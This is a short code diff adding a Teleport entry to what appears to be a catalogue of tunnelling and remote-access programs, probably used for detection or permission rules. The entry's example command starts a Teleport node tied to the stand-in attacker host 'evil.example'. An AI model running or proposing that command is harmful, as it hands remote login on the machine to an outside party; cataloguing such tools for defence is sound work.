@@ -88,6 +88,13 @@ export const programs: readonly ProgramSpec[] = [
     ],
   },
   tunnelWith(
+    'teleport tsh tbot',
+    'Lets people of a Teleport cluster log in to this machine.',
+    'start|node|agent',
+    'teleport start --roles=node --auth-server=evil.example',
+    'teleport version',
+  ),
+  tunnelWith(
     'bore',
     'Opens a port of this machine on a server.',
     'local|server',
